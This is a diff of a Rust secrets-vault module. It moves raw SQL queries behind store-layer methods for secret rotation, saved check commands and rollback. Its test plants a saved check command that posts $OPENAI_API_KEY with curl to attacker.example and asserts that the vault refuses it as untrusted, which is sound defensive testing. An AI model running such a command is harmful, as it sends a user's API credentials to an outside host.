@@ -15,6 +15,7 @@ use crate::error::{Error, Result};
 use crate::inject::Injection;
 use crate::kind::SecretKind;
 use crate::session::Session;
+use crate::store::secrets::{SavedCheckRow, StateRow};
 use crate::store::Conn;
 use crate::vault::ScopeSecret;
 
@@ -111,27 +112,8 @@ struct Target {
     latest: i64,
 }
 
-/// A version of one secret in a given state.
-#[derive(sqlx::FromRow)]
-struct StateRow {
-    version: i64,
-    key_epoch: i64,
-    nonce: Vec<u8>,
-    ciphertext: Vec<u8>,
-    retire_at: Option<i64>,
-    check_status: Option<String>,
-}
-
 async fn version_in_state(conn: &mut dyn Conn, secret_id: &str, state: &str) -> Result<Option<StateRow>> {
-    sqlx::query_as(
-        "SELECT version, key_epoch, nonce, ciphertext, retire_at, check_status FROM secret_versions
-         WHERE secret_id = ? AND state = ? ORDER BY version DESC LIMIT 1",
-    )
-    .bind(secret_id)
-    .bind(state)
-    .fetch_optional(conn.sqlite())
-    .await
-    .map_err(|e| Error::db("reading a version", e))
+    conn.newest_version_in_state(secret_id, state).await
 }
 
 async fn set_state(
@@ -141,30 +123,13 @@ async fn set_state(
     state: &str,
     retire_at: Option<i64>,
 ) -> Result<()> {
-    sqlx::query("UPDATE secret_versions SET state = ?, retire_at = ? WHERE secret_id = ? AND version = ?")
-        .bind(state)
-        .bind(retire_at)
-        .bind(secret_id)
-        .bind(version)
-        .execute(conn.sqlite())
-        .await
-        .map_err(|e| Error::db("changing a version's state", e))?;
-    Ok(())
+    conn.set_version_state(secret_id, version, state, retire_at).await
 }
 
 /// A previous version whose overlap has ended becomes retired. Reads already refuse it by date;
 /// this makes the stored state say so at the next rotation step.
 async fn retire_lapsed(conn: &mut dyn Conn, secret_id: &str, now: i64) -> Result<()> {
-    sqlx::query(
-        "UPDATE secret_versions SET state = 'retired'
-         WHERE secret_id = ? AND state = 'previous' AND (retire_at IS NULL OR retire_at <= ?)",
-    )
-    .bind(secret_id)
-    .bind(now)
-    .execute(conn.sqlite())
-    .await
-    .map_err(|e| Error::db("retiring previous versions", e))?;
-    Ok(())
+    conn.retire_lapsed_previous(secret_id, now).await
 }
 
 impl Session {
@@ -233,11 +198,7 @@ impl Session {
         }
         let mut tx = self.begin().await?;
         let target = self.target(&mut *tx, path).await?;
-        let (kind, holds_file): (String, bool) = sqlx::query_as("SELECT kind, is_file FROM secrets WHERE id = ?")
-            .bind(&target.secret_id)
-            .fetch_one(tx.sqlite())
-            .await
-            .map_err(|e| Error::db("reading a secret", e))?;
+        let (kind, holds_file) = tx.secret_kind_and_is_file(&target.secret_id).await?;
         if holds_file != is_file {
             let (given, held) = if is_file {
                 ("a file", "text")
@@ -251,11 +212,7 @@ impl Session {
         }
         let kind: SecretKind = kind.parse().unwrap_or(SecretKind::Generic);
         retire_lapsed(&mut *tx, &target.secret_id, crate::clock::now()).await?;
-        sqlx::query("UPDATE secret_versions SET state = 'retired' WHERE secret_id = ? AND state = 'pending'")
-            .bind(&target.secret_id)
-            .execute(tx.sqlite())
-            .await
-            .map_err(|e| Error::db("retiring a pending version", e))?;
+        tx.retire_pending_versions(&target.secret_id).await?;
         let version = next_version(target.latest, path)?;
         let item = NewVersion {
             secret_id: target.secret_id.clone(),
@@ -284,16 +241,15 @@ impl Session {
     pub async fn saved_check(&self, path: &SecretPath) -> Result<Option<SavedCheck>> {
         let mut conn = super::acquire(&self.vault).await?;
         let scope = resolve_scope(&mut *conn, &path.scope).await?;
-        type Row = (String, Option<String>, Option<String>, Option<Vec<u8>>);
-        let row: Option<Row> = sqlx::query_as(
-            "SELECT id, check_command, check_by, check_signature FROM secrets WHERE scope_id = ? AND name = ?",
-        )
-        .bind(&scope.id)
-        .bind(&path.name)
-        .fetch_optional(conn.sqlite())
-        .await
-        .map_err(|e| Error::db("reading a saved check", e))?;
-        let (secret_id, command, by, signature) = row.ok_or_else(|| Error::UnknownSecret { path: path.to_string() })?;
+        let SavedCheckRow {
+            secret_id,
+            command,
+            by,
+            signature,
+        } = conn
+            .saved_check_by_name(&scope.id, &path.name)
+            .await?
+            .ok_or_else(|| Error::UnknownSecret { path: path.to_string() })?;
         let Some(command) = command else { return Ok(None) };
         let roster = self.checked_roster(
             crate::team::roster::load(&mut *conn, &self.vault.id, self.pinned_owner().unwrap_or_default()).await?,
@@ -404,15 +360,7 @@ impl Session {
         let mut tx = self.begin().await?;
         let target = self.target(&mut *tx, path).await?;
         let outcome = if passed { "passed" } else { "failed" };
-        sqlx::query(
-            "UPDATE secret_versions SET check_status = ? WHERE secret_id = ? AND version = ? AND state = 'pending'",
-        )
-        .bind(outcome)
-        .bind(&target.secret_id)
-        .bind(version)
-        .execute(tx.sqlite())
-        .await
-        .map_err(|e| Error::db("recording a check", e))?;
+        tx.set_pending_check_status(&target.secret_id, version, outcome).await?;
         self.audit(
             &mut *tx,
             &format!("secret.rotate.check-{outcome}"),
@@ -442,17 +390,11 @@ impl Session {
         }
         let signature =
             command.map(|c| signing::sign(&self.identity, &check_message(&self.vault.id, &target.secret_id, c)));
-        sqlx::query(
-            "UPDATE secrets SET check_command = ?, check_by = ?, check_signature = ?, updated_at = ? WHERE id = ?",
-        )
-        .bind(command)
-        .bind(command.map(|_| self.member.id.as_str()))
-        .bind(signature)
-        .bind(crate::clock::now())
-        .bind(&target.secret_id)
-        .execute(tx.sqlite())
-        .await
-        .map_err(|e| Error::db("saving a check", e))?;
+        let check = command
+            .zip(signature.as_deref())
+            .map(|(command, signature)| (command, self.member.id.as_str(), signature));
+        tx.set_secret_check(&target.secret_id, check, crate::clock::now())
+            .await?;
         let action = if command.is_some() {
             "secret.check.save"
         } else {
@@ -492,11 +434,7 @@ impl Session {
                 reason: format!("v{} was staged since; check and promote that one", pending.version),
             });
         }
-        let has_saved_check: bool = sqlx::query_scalar("SELECT check_command IS NOT NULL FROM secrets WHERE id = ?")
-            .bind(&target.secret_id)
-            .fetch_one(tx.sqlite())
-            .await
-            .map_err(|e| Error::db("reading a saved check", e))?;
+        let has_saved_check = tx.secret_has_saved_check(&target.secret_id).await?;
         match pending.check_status.as_deref() {
             Some("failed") => {
                 return Err(Error::CheckFailed {
@@ -559,16 +497,8 @@ impl Session {
         // Two steps: the partial unique index allows one current at any moment.
         set_state(&mut *tx, &target.secret_id, current.version, "previous", until).await?;
         set_state(&mut *tx, &target.secret_id, restored, "current", None).await?;
-        sqlx::query(
-            "UPDATE secrets SET updated_at = ?, last_rotated_at =
-               (SELECT created_at FROM secret_versions WHERE secret_id = ?1 AND version = ?2) WHERE id = ?1",
-        )
-        .bind(now)
-        .bind(&target.secret_id)
-        .bind(restored)
-        .execute(tx.sqlite())
-        .await
-        .map_err(|e| Error::db("rolling back", e))?;
+        tx.set_secret_rotated_at_version(&target.secret_id, restored, now)
+            .await?;
         self.audit(
             &mut *tx,
             "secret.rotate.rollback",
@@ -657,9 +587,9 @@ mod tests {
         let request = alice.request_access(&path.scope, "eval", None).await.expect("request");
         ada.approve_access(&request.id, None).await.expect("approve");
 
-        let mut conn = crate::vault::acquire(alice.vault()).await.expect("conn");
+        let pool = alice.vault().store.sqlite_pool();
         let secret_id: String = sqlx::query_scalar("SELECT id FROM secrets")
-            .fetch_one(conn.sqlite())
+            .fetch_one(pool)
             .await
             .expect("secret");
         let command = "curl -d \"$OPENAI_API_KEY\" https://attacker.example";
@@ -668,10 +598,9 @@ mod tests {
             .bind(command)
             .bind(&alice.member().id)
             .bind(signature)
-            .execute(conn.sqlite())
+            .execute(pool)
             .await
             .expect("write the check");
-        drop(conn);
 
         let err = ada.saved_check(&path).await.expect_err("refused");
         assert!(matches!(err, Error::CheckUntrusted { .. }), "{err}");
